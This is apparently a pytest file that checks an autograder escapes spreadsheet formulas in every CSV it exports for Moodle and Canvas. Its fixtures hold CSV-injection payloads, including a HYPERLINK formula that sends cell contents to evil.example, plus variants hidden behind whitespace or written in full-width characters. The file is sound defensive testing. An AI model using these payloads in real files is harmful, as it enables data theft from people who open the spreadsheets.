"""Every CSV the grader writes opens as text in a spreadsheet (OWASP's CSV-injection rule).

The attack (issue 29): a Moodle display name `=HYPERLINK("http:"&CHAR(47)…,"Оценка")` — and a test
message and a feedback line that begin with = + - @ tab or CR — end up in grades.csv,
grades_wide.csv, roster.csv, item_analysis.csv, Moodle's worksheet and Canvas's import. Excel,
LibreOffice and Google Sheets run a cell as a formula when its text begins with one of those
characters; a leading ' makes it text in all three. Grades stay numbers, Moodle's and Canvas's
importers (tests/lms_importers.py) read the same grades, and roster.csv reads back the real names.
"""

import csv

import lms_importers

from autograder.classroom.outputs import Outcome, write_outputs
from autograder.classroom.workflow import export_grades
from autograder.notebook.results import GRADED, Result
from autograder.notebook.results import TestResult as Verdict
from autograder.platforms.analysis import write_item_analysis
from autograder.platforms.report import from_spreadsheet_cell, read_roster, spreadsheet_cell, write_roster

NB1 = "01_hand_example"
ATTACK = '=HYPERLINK("http:"&CHAR(47)&CHAR(47)&"evil.example"&CHAR(47)&"?"&A1,"Оценка")'
ROSTER = {"1001": ATTACK, "1002": "+7 (999) 123", "1003": "@SUM(1+1)", "1004": "-2+3", "1005": "\tTab", "1006": "'=x"}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


def outcome():
    results = []
    for i, student in enumerate(ROSTER):
        tests = [Verdict("test_merge", 0 if i % 2 else 2, 2, "=1+1 ожидалось" if i % 2 else "")]
        results.append(Result(student, NB1, float(i), 17, GRADED, "-- a message", tests=tests))
    return Outcome(results=results, notebooks=[NB1], roster=dict(ROSTER))


def test_every_csv_opens_as_text_and_the_importers_read_the_same(tmp_path):
    result = outcome()
    write_roster(ROSTER, tmp_path)
    write_outputs(result, [NB1], tmp_path)
    write_item_analysis(result.results, tmp_path)
    export_grades(["moodle", "canvas"], result, tmp_path, "Homework 1", "en")
    written = sorted(tmp_path.glob("*.csv"))
    assert {p.name for p in written} >= {
        "grades.csv",
        "grades_wide.csv",
        "roster.csv",
        "item_analysis.csv",
        "moodle_grading_worksheet.csv",
        "canvas_grades_import.csv",
    }
    for path in written:
        with open(path, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.startswith(FORMULA) or is_number(cell), f"{path.name}: {cell!r} is a formula"
    worksheet = (tmp_path / "moodle_grading_worksheet.csv").read_text(encoding="utf-8")
    assert f"'{ATTACK}".replace('"', '""') in worksheet  # the name is there, shown as text
    applied = lms_importers.moodle_worksheet(worksheet, "en", {1001, 1002, 1003, 1004, 1005, 1006}, 17)
    assert {pid: row["grade"] for pid, row in applied.items()} == {1001 + i: float(i) for i in range(6)}
    canvas = lms_importers.canvas_gradebook((tmp_path / "canvas_grades_import.csv").read_text("utf-8"), {1001, 1006})
    assert canvas == {1001: {"Homework 1": "0"}, 1006: {"Homework 1": "5"}}
    assert read_roster(tmp_path) == ROSTER  # the grader reads back what it was given


def test_the_rule_leaves_numbers_and_plain_text_alone_and_is_undone_exactly():
    for value in ["-1", "+2.5", "3e2", "Иван", "a=b", "-", "Иван -", "x\n=1", ""]:
        assert spreadsheet_cell(value) == value
    for value in [ATTACK, "-x", "+", "@", "\r=1", "\t", "'=x", "''@y", "'-", " =not a formula?", *SPACED]:
        safe = spreadsheet_cell(value)
        assert safe.startswith("'") and from_spreadsheet_cell(safe) == value
    assert spreadsheet_cell(17.5) == 17.5


# Issue 40 item 5: what a spreadsheet may read as a formula although the cell does not begin with
# an ASCII sign (docs/grading.md, "CSV cells"): a whitespace a spreadsheet trims on import (LibreOffice
# Calc's "Trim spaces", Google Sheets' import), a line feed, a no-break or zero-width space, and the
# full-width signs (＝ ＋ － ＠) that a Japanese or Chinese Excel reads as their ASCII ones.
SPACED = [
    ' =HYPERLINK("http://evil.example")',
    "\n=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff@SUM(1)",
    '＝HYPERLINK("http://evil.example")',
    "＋1＋1",
    "＠SUM(1)",
    "－1－1",
    "  \n ＝1",
    "\x00=1",
]


def test_formulas_behind_whitespace_or_in_full_width_are_escaped_in_every_written_csv(tmp_path):
    roster = {str(2001 + i): name for i, name in enumerate(SPACED)}
    results = [Result(pid, NB1, 1.0, 17, GRADED, name) for pid, name in roster.items()]
    result = Outcome(results=results, notebooks=[NB1], roster=roster)
    write_roster(roster, tmp_path)
    write_outputs(result, [NB1], tmp_path)
    export_grades(["moodle", "canvas"], result, tmp_path, "Homework 1", "en")
    for name in ("grades.csv", "roster.csv", "moodle_grading_worksheet.csv", "canvas_grades_import.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as f:
            cells = [cell for row in csv.reader(f) for cell in row]
        for attack in SPACED:
            if name == "grades.csv" and "\n" in attack:
                continue  # grades.csv writes a message on one line (" | "): no formula left
            assert attack not in cells, f"{name}: {attack!r} written as it is"
            assert "'" + attack in cells, f"{name}: {attack!r} not shown as text"
    assert read_roster(tmp_path) == roster
    applied = lms_importers.moodle_worksheet(
        (tmp_path / "moodle_grading_worksheet.csv").read_text(encoding="utf-8"), "en", {int(p) for p in roster}, 17
    )
    assert {row["grade"] for row in applied.values()} == {1.0} and len(applied) == len(SPACED)


def test_moodles_lone_dash_comes_back_as_moodle_wrote_it():
    assert spreadsheet_cell("-") == "-" and from_spreadsheet_cell("-") == "-"
